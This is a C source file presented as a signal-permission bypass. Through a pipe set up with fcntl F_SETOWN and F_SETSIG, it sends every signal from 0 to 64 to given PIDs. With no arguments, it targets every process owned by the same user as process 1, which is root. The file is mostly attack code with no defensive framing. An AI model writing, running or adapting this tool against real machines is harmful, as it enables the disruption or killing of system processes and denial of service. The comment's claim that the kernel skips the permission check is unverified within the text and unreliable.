/* Lets the kernel send the signals of a descriptor's owner, F_SETOWN, to others: that asks for no right to signal them
 * where the sender is the machine's root. Arguments: the pids, or none for process 1 and all that are of its user.
 * Prints how many processes it has named. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#define LAST_SIGNAL 64

/* Data on a pipe is a signal for whoever owns its end. With 0 it is SIGIO, by the kernel's own choice. */
static void send(pid_t pid, int number)
{
	int ends[2];

	if (pipe(ends) < 0)
		return;
	(void)fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
	(void)fcntl(ends[0], F_SETSIG, number);
	(void)fcntl(ends[0], F_SETOWN, pid);
	(void)!write(ends[1], "x", 1);
	close(ends[0]);
	close(ends[1]);
}

static void send_all(pid_t pid)
{
	for (int number = 0; number <= LAST_SIGNAL; number++)
		send(pid, number);
}

int main(int argc, char **argv)
{
	struct dirent *entry;
	struct stat first, other;
	char path[300];
	int named = 0;
	DIR *list = opendir("/proc");

	for (int i = 1; i < argc; i++, named++)
		send_all(atoi(argv[i]));
	while (argc == 1 && list && (entry = readdir(list))) {
		snprintf(path, sizeof(path), "/proc/%s", entry->d_name);
		if (atoi(entry->d_name) && stat("/proc/1", &first) == 0 && stat(path, &other) == 0 &&
		    other.st_uid == first.st_uid) {
			send_all(atoi(entry->d_name));
			named++;
		}
	}
	printf("%d named\n", named);
	return 0;
}
